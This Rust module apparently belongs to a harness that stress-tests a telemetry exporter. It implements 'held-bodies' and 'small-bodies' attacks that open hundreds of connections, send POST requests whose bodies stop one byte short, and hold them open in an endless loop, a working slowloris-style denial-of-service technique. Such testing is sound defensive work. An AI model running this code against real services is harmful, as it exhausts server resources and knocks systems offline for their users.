//! Bodies that are sent but for their last byte: 500 large ones, and as many small ones as there
//! are connections.

use std::io::Write as _;

use crate::attack::{Attack, Target, open};

pub(crate) const ATTACK: Attack =
    Attack::new("held-bodies", |target| hold(target, &[("/v1/metrics", 4 << 20), ("/v1/events", 1 << 20)]));
pub(crate) const SMALL: Attack =
    Attack::new("small-bodies", |target| hold(target, &[("/v1/metrics", 64 << 10)]));

const HELD: usize = 500;

fn hold(target: &Target, kinds: &[(&str, usize)]) -> anyhow::Result<()> {
    let part = vec![b' '; (4 << 20) - 1];
    // Who is refused or closed comes again.
    loop {
        let mut held = Vec::new();
        for (path, size) in kinds.iter().cycle().take(HELD) {
            let Ok(mut stream) = open(target.exporter) else { continue };
            let head = format!(
                "POST {path} HTTP/1.1\r\nhost: {}\r\ncontent-type: application/json\r\ncontent-length: {size}\r\n\r\n",
                target.exporter
            );
            let sent = stream
                .write_all(head.as_bytes())
                .and_then(|()| stream.write_all(part.get(..size - 1).unwrap_or_default()));
            if sent.is_ok() {
                held.push(stream);
            }
        }
    }
}
